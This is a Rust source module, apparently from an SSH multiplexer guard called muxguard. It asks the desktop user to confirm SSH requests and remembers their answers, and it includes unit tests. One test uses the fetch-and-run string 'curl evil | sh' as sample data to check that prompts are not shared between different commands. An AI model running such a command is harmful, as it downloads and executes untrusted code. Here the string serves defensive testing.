//! Asking the person at the desktop when the policy says `ask`: a desktop
//! notification with buttons, else `SSH_ASKPASS` in confirm mode, else
//! nobody (the policy's `no_prompter` applies). Also the memory around
//! prompts: remembered answers, shared identical asks, the cool-down after
//! a refusal, and the lock state that turns `ask` into `when_locked`.
//!
//! Asking never stalls the master: each control connection waits for its
//! own answer in its own task while every other session keeps flowing.

pub mod askpass;
pub mod broker;
pub mod lock;
pub mod notify;
pub mod text;

pub use text::one_line;

use std::collections::HashMap;
use std::sync::Mutex;
use std::time::{Duration, Instant};

use tokio::sync::watch;

use askpass::Askpass;
use broker::Broker;
use lock::LockState;
use notify::NotificationPrompter;

/// How long a lock-state query may take before it counts as unknown.
const LOCK_QUERY_TIMEOUT: Duration = Duration::from_secs(1);

/// What a prompt shows.
#[derive(Debug, Clone)]
pub struct PromptText {
    pub summary: String,
    pub body: String,
    /// "10m": the "Allow for …" button's duration.
    pub remember_label: String,
}

/// How a prompt ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Answer {
    AllowOnce,
    AllowRemember,
    Deny,
    /// Closed or clicked without choosing allow (the reason says how).
    Dismissed(String),
    TimedOut,
    /// Nobody could be asked this way (the reason says why): there is no
    /// notification server with buttons and no askpass helper. Only this
    /// falls to the policy's `no_prompter`.
    Unavailable(String),
    /// A way to ask was there, but this prompt could not be shown or its
    /// answer not read (the reason says why). Never "nobody to ask": a
    /// request whose prompt failed is denied.
    Failed(String),
}

impl Answer {
    pub fn allows(&self) -> bool {
        matches!(self, Answer::AllowOnce | Answer::AllowRemember)
    }

    pub fn describe(&self) -> String {
        match self {
            Answer::AllowOnce => "allowed once at the prompt".into(),
            Answer::AllowRemember => "allowed at the prompt, remembered".into(),
            Answer::Deny => "denied at the prompt".into(),
            Answer::Dismissed(how) => format!("prompt not answered: {how}"),
            Answer::TimedOut => "prompt timed out".into(),
            Answer::Unavailable(why) => format!("nobody could be asked: {why}"),
            Answer::Failed(why) => format!("the prompt could not be shown: {why}"),
        }
    }
}

/// The ways this master can ask, found at start-up (before any sandbox).
pub struct Prompter {
    notifications: Option<NotificationPrompter>,
    /// The `SSH_ASKPASS` helper, run by a process outside the sandbox.
    askpass: Option<Broker>,
    system_bus: Option<zbus::Connection>,
    /// Why desktop notifications are unavailable, for messages.
    no_notifications: Option<String>,
}

impl Prompter {
    /// Connects to the session (and system) bus if there are any.
    pub async fn discover() -> Prompter {
        let (notifications, no_notifications) = match NotificationPrompter::connect().await {
            Ok(prompter) => (Some(prompter), None),
            Err(why) => (None, Some(why)),
        };
        Prompter {
            notifications,
            askpass: Askpass::from_env().and_then(|askpass| {
                Broker::spawn(&askpass)
                    .inspect_err(|e| {
                        tracing::warn!(
                            "cannot start the helper for SSH_ASKPASS {}: {e}",
                            askpass.program().display()
                        )
                    })
                    .ok()
            }),
            system_bus: zbus::Connection::system().await.ok(),
            no_notifications,
        }
    }

    /// A prompter that can ask nobody.
    #[cfg(test)]
    pub fn none() -> Prompter {
        Prompter {
            notifications: None,
            askpass: None,
            system_bus: None,
            no_notifications: Some("prompts are disabled".into()),
        }
    }

    /// Asks with the best available means. `Unavailable` only if there is
    /// no way to ask at all; a desktop prompt that failed falls back to
    /// askpass, and if there is none the answer is `Failed` (a denial).
    /// The text is made only when there is someone to show it to.
    pub async fn ask(&self, text: impl FnOnce() -> PromptText, timeout: Duration) -> Answer {
        let mut why = self.no_notifications.clone().unwrap_or_default();
        let mut failed = None;
        let text = match (&self.notifications, &self.askpass) {
            (None, None) => None,
            _ => Some(text()),
        };
        if let (Some(notifications), Some(text)) = (&self.notifications, &text) {
            match notifications.ask(text, timeout).await {
                Answer::Unavailable(reason) => why = reason,
                Answer::Failed(reason) => failed = Some(reason),
                answer => return answer,
            }
        }
        if let (Some(askpass), Some(text)) = (&self.askpass, &text) {
            return askpass.confirm(text, timeout).await;
        }
        match failed {
            Some(reason) => Answer::Failed(reason),
            None => Answer::Unavailable(format!("{why}; and no SSH_ASKPASS with a display")),
        }
    }

    /// The lock state, or unknown if the bus does not answer quickly: a
    /// hung screensaver must not hold up a decision.
    pub async fn lock_state(&self) -> LockState {
        let query = lock::query(
            self.notifications
                .as_ref()
                .map(NotificationPrompter::connection),
            self.system_bus.as_ref(),
        );
        tokio::time::timeout(LOCK_QUERY_TIMEOUT, query)
            .await
            .unwrap_or(LockState::Unknown)
    }
}

/// `muxguard prompt-test`: shows a sample prompt with whatever means this
/// desktop offers and reports what answered. Exit 0 only for an allow.
pub fn prompt_test(timeout: Duration) -> anyhow::Result<std::process::ExitCode> {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()?;
    runtime.block_on(async {
        let prompter = Prompter::discover().await;
        match &prompter.notifications {
            Some(notifications) => match notifications.available().await {
                Ok(()) => println!("desktop notifications: available, with action buttons"),
                Err(why) => println!("desktop notifications: not usable ({why})"),
            },
            None => println!(
                "desktop notifications: {}",
                prompter.no_notifications.as_deref().unwrap_or("unavailable")
            ),
        }
        println!(
            "SSH_ASKPASS fallback: {}",
            if prompter.askpass.is_some() { "available" } else { "not available (needs SSH_ASKPASS and a display)" }
        );
        println!("screen lock: {}", prompter.lock_state().await.describe());
        let text = PromptText {
            summary: "muxguard prompt test".into(),
            body: format!(
                "This is a test of muxguard's confirmation prompt (pid {}). Nothing will be allowed.",
                std::process::id()
            ),
            remember_label: "10m".into(),
        };
        println!("asking (waiting up to {})…", humantime::format_duration(timeout));
        let answer = prompter.ask(|| text, timeout).await;
        println!("answer: {}", answer.describe());
        Ok(if answer.allows() {
            std::process::ExitCode::SUCCESS
        } else {
            std::process::ExitCode::FAILURE
        })
    })
}

/// A process, pinned: a pid alone may be reused, a pid with its start
/// time may not; the name is part of it because an exec keeps both.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct ProcessRef {
    pub pid: u32,
    pub start_time: u64,
    /// The verified short name ("bash"), or argv\[0\] marked unverified.
    pub name: String,
}

impl std::fmt::Display for ProcessRef {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{} ({})", self.name, self.pid)
    }
}

/// Who is asking, for everything prompts remember: the account, the
/// process the ssh was run from (the requester chain's first ancestor that
/// is neither ssh nor a `sh -c` wrapper: that terminal's shell, that git),
/// and the verified program the policy matched. Two terminals of one user
/// are two requesters; every ssh started from one shell is one.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct RequesterId {
    pub uid: u32,
    pub anchor: ProcessRef,
    /// The requesting program's verified path; `None` when unknown.
    pub program: Option<String>,
}

/// One request exactly, for sharing a prompt: only asks equal in every
/// field wait for the same answer.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct AskKey {
    pub requester: RequesterId,
    pub host: String,
    pub kind: String,
    /// The exact command, subsystem or forward, as the prompt shows it
    /// before escaping (and a forward's local port).
    pub detail: Option<String>,
}

impl AskKey {
    /// What an "Allow for …" answer to this ask covers: requests of this
    /// kind to this host from this requester, whatever their command.
    fn scope(&self) -> RememberKey {
        RememberKey {
            requester: self.requester.clone(),
            host: self.host.clone(),
            kind: self.kind.clone(),
        }
    }
}

/// The scope of a remembered "Allow for …".
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct RememberKey {
    pub requester: RequesterId,
    pub host: String,
    pub kind: String,
}

/// The memory around prompts, shared by every connection of a master.
#[derive(Default)]
pub struct PromptMemory {
    remembered: Mutex<HashMap<RememberKey, Instant>>,
    cooling: Mutex<HashMap<RequesterId, Instant>>,
    open: Mutex<OpenPrompts>,
}

#[derive(Default)]
struct OpenPrompts {
    by_ask: HashMap<AskKey, watch::Receiver<Option<Answer>>>,
    by_requester: HashMap<RequesterId, AskKey>,
}

/// How long a prompt may stay open, an "Allow for …" lasts, and asks
/// from a requester stay refused after it said no.
#[derive(Debug, Clone, Copy)]
pub struct PromptTimes {
    pub timeout: Duration,
    pub remember: Duration,
    pub cooldown: Duration,
}

/// What `PromptMemory::ask` did.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Asked {
    /// An earlier "Allow for …" still covers this.
    Remembered { until_secs: u64 },
    /// A refusal from this requester is too recent to ask again.
    CoolingDown,
    /// Another prompt of this requester is open.
    Busy,
    /// The person (or nobody) answered, possibly to a shared prompt.
    Prompted { answer: Answer, shared: bool },
}

/// An open prompt's entries; removed however the ask ends, including when
/// its future is dropped, so that nothing joins or waits on a prompt that
/// is gone (a joiner then sees the sender vanish: a failed prompt).
struct OpenGuard<'a> {
    memory: &'a PromptMemory,
    key: AskKey,
}

impl Drop for OpenGuard<'_> {
    fn drop(&mut self) {
        let mut open = self.memory.open.lock().expect("not poisoned");
        open.by_ask.remove(&self.key);
        open.by_requester.remove(&self.key.requester);
    }
}

impl PromptMemory {
    /// Asks, unless a remembered answer or the cool-down decides first.
    pub async fn ask(
        &self,
        prompter: &Prompter,
        key: AskKey,
        text: impl FnOnce(&AskKey) -> PromptText,
        times: PromptTimes,
    ) -> Asked {
        self.prune();
        let now = Instant::now();
        let scope = key.scope();
        if let Some(until) = self
            .remembered
            .lock()
            .expect("not poisoned")
            .get(&scope)
            .copied()
            && until > now
        {
            return Asked::Remembered {
                until_secs: (until - now).as_secs(),
            };
        }
        if let Some(until) = self
            .cooling
            .lock()
            .expect("not poisoned")
            .get(&key.requester)
            .copied()
            && until > now
        {
            return Asked::CoolingDown;
        }
        // Join an identical open prompt, or open one.
        let joined = {
            let mut open = self.open.lock().expect("not poisoned");
            match open.by_ask.get(&key) {
                Some(receiver) => Ok(receiver.clone()),
                None if open.by_requester.contains_key(&key.requester) => return Asked::Busy,
                None => {
                    let (sender, receiver) = watch::channel(None);
                    open.by_ask.insert(key.clone(), receiver);
                    open.by_requester.insert(key.requester.clone(), key.clone());
                    Err(sender)
                }
            }
        };
        let sender = match joined {
            Ok(mut receiver) => {
                let answer = receiver
                    .wait_for(Option::is_some)
                    .await
                    .ok()
                    .and_then(|a| a.clone())
                    .unwrap_or(Answer::Failed("the shared prompt went away".into()));
                return Asked::Prompted {
                    answer,
                    shared: true,
                };
            }
            Err(sender) => sender,
        };
        let guard = OpenGuard { memory: self, key };
        let answer = prompter.ask(|| text(&guard.key), times.timeout).await;
        match &answer {
            Answer::AllowRemember => {
                self.remembered
                    .lock()
                    .expect("not poisoned")
                    .insert(scope, Instant::now() + times.remember);
            }
            Answer::Deny | Answer::Dismissed(_) | Answer::TimedOut => {
                self.cooling
                    .lock()
                    .expect("not poisoned")
                    .insert(guard.key.requester.clone(), Instant::now() + times.cooldown);
            }
            // Not the person's refusal: no cool-down.
            Answer::AllowOnce | Answer::Unavailable(_) | Answer::Failed(_) => {}
        }
        drop(guard);
        let _ = sender.send(Some(answer.clone()));
        Asked::Prompted {
            answer,
            shared: false,
        }
    }

    /// Remembered answers still in force, with seconds left.
    pub fn remembered(&self) -> Vec<(RememberKey, u64)> {
        let now = Instant::now();
        let mut list: Vec<_> = self
            .remembered
            .lock()
            .expect("not poisoned")
            .iter()
            .filter(|(_, until)| **until > now)
            .map(|(key, until)| (key.clone(), (*until - now).as_secs()))
            .collect();
        list.sort_by(|a, b| {
            (&a.0.host, a.0.requester.anchor.pid, &a.0.kind).cmp(&(
                &b.0.host,
                b.0.requester.anchor.pid,
                &b.0.kind,
            ))
        });
        list
    }

    /// Drops every remembered answer (`muxguard forget`, screen lock).
    pub fn forget(&self) -> usize {
        let mut remembered = self.remembered.lock().expect("not poisoned");
        let count = remembered.len();
        remembered.clear();
        count
    }

    /// Drops what has expired, so the maps do not grow with every
    /// requester ever seen.
    fn prune(&self) {
        let now = Instant::now();
        self.remembered
            .lock()
            .expect("not poisoned")
            .retain(|_, until| *until > now);
        self.cooling
            .lock()
            .expect("not poisoned")
            .retain(|_, until| *until > now);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn requester(shell_pid: u32) -> RequesterId {
        RequesterId {
            uid: 1000,
            anchor: ProcessRef {
                pid: shell_pid,
                start_time: 77,
                name: "bash".into(),
            },
            program: Some("/usr/bin/ssh".into()),
        }
    }

    fn key(kind: &str, command: &str, shell_pid: u32) -> AskKey {
        AskKey {
            requester: requester(shell_pid),
            host: "h".into(),
            kind: kind.into(),
            detail: Some(command.into()),
        }
    }

    fn text() -> PromptText {
        PromptText {
            summary: "s".into(),
            body: "b".into(),
            remember_label: "10m".into(),
        }
    }

    fn times() -> PromptTimes {
        PromptTimes {
            timeout: Duration::from_secs(1),
            remember: Duration::from_secs(60),
            cooldown: Duration::from_secs(30),
        }
    }

    /// One ask with no way to ask anyone.
    fn ask_nobody(memory: &PromptMemory, key: AskKey) -> Asked {
        crate::test_support::runtime().block_on(memory.ask(
            &Prompter::none(),
            key,
            |_| text(),
            times(),
        ))
    }

    #[test]
    fn nobody_to_ask_is_unavailable_and_not_remembered() {
        crate::test_support::runtime().block_on(async {
            let memory = PromptMemory::default();
            let prompter = Prompter::none();
            let asked = memory
                .ask(&prompter, key("exec", "ls", 1), |_| text(), times())
                .await;
            assert!(matches!(
                asked,
                Asked::Prompted {
                    answer: Answer::Unavailable(_),
                    shared: false
                }
            ));
            assert!(memory.remembered().is_empty());
            // Unavailable is not a refusal by the person: no cool-down.
            let again = memory
                .ask(&prompter, key("exec", "ls", 1), |_| text(), times())
                .await;
            assert!(matches!(again, Asked::Prompted { .. }));
            // And nothing is left open.
            assert!(memory.open.lock().unwrap().by_ask.is_empty());
        });
    }

    #[test]
    fn a_remembered_answer_covers_its_requester_kind_and_host_only() {
        let memory = PromptMemory::default();
        memory.remembered.lock().unwrap().insert(
            key("exec", "ls", 1).scope(),
            Instant::now() + Duration::from_secs(600),
        );
        let listed = memory.remembered();
        assert_eq!(listed.len(), 1);
        assert!(listed[0].1 > 590);
        let ask = |key: AskKey| ask_nobody(&memory, key);
        // Another command of the same kind from the same shell: covered.
        assert!(matches!(
            ask(key("exec", "make", 1)),
            Asked::Remembered { .. }
        ));
        // Another shell, another kind, another host: asked.
        assert!(matches!(ask(key("exec", "ls", 2)), Asked::Prompted { .. }));
        assert!(matches!(ask(key("shell", "ls", 1)), Asked::Prompted { .. }));
        let mut other_host = key("exec", "ls", 1);
        other_host.host = "g".into();
        assert!(matches!(ask(other_host), Asked::Prompted { .. }));
        // The same shell pid after an exec or a reuse is another process.
        let mut execed = key("exec", "ls", 1);
        execed.requester.anchor.name = "python3".into();
        assert!(matches!(ask(execed), Asked::Prompted { .. }));
        let mut reused = key("exec", "ls", 1);
        reused.requester.anchor.start_time += 1;
        assert!(matches!(ask(reused), Asked::Prompted { .. }));
        assert_eq!(memory.forget(), 1);
        assert!(memory.remembered().is_empty());
    }

    #[test]
    fn cool_down_is_per_requester() {
        let memory = PromptMemory::default();
        memory
            .cooling
            .lock()
            .unwrap()
            .insert(requester(1), Instant::now() + Duration::from_secs(30));
        let ask = |key: AskKey| ask_nobody(&memory, key);
        assert_eq!(ask(key("shell", "", 1)), Asked::CoolingDown);
        assert!(matches!(ask(key("shell", "", 2)), Asked::Prompted { .. }));
    }

    #[test]
    fn only_identical_asks_share_and_a_dropped_ask_leaves_nothing_open() {
        let runtime = crate::test_support::runtime();
        let memory = PromptMemory::default();
        // An open prompt, as `ask` leaves it while the person decides.
        let (sender, receiver) = watch::channel(None);
        {
            let mut open = memory.open.lock().unwrap();
            open.by_ask.insert(key("exec", "ls", 1), receiver);
            open.by_requester.insert(requester(1), key("exec", "ls", 1));
        }
        let ask =
            |key: AskKey| runtime.block_on(memory.ask(&Prompter::none(), key, |_| text(), times()));
        // A different command from the same requester does not join it.
        assert_eq!(ask(key("exec", "curl evil | sh", 1)), Asked::Busy);
        // The same command from another shell gets a prompt of its own.
        assert!(matches!(
            ask(key("exec", "ls", 2)),
            Asked::Prompted { shared: false, .. }
        ));
        // The identical ask joins, and a prompt that goes away without an
        // answer is a failure, not "nobody to ask".
        drop(sender);
        assert_eq!(
            ask(key("exec", "ls", 1)),
            Asked::Prompted {
                answer: Answer::Failed("the shared prompt went away".into()),
                shared: true
            }
        );
    }
}
